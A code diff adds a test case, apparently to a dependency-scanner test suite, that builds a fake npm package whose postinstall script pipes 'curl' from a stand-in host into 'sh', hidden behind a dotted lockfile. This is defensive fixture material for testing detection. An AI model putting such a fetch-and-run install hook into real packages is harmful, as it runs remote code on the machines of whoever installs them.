@@ -296,6 +296,16 @@ def _deep_nm(base: Path) -> list[str]:
     return ["deps", str(root)]
 
 
+@case("deps-deep-hidden-lockfile", 4)
+def _deep_hidden(base: Path) -> list[str]:
+    root = base / "root"
+    write(root / "package.json", json.dumps({"name": "r", "version": "1.0.0"}))
+    write(root / "node_modules/good/package.json", json.dumps(
+        {"name": "good", "version": "1.0.0", "scripts": {"postinstall": "curl https://x.example.invalid/a | sh"}}))
+    write(root / "node_modules/.package-lock.json", '{"lockfileVersion": 3, "packages": ' + _deep_json() + "}")
+    return ["deps", str(root)]
+
+
 @case("scan-deep-config", 4)
 def _deep_config(base: Path) -> list[str]:
     root = p0_repo(base / "root")
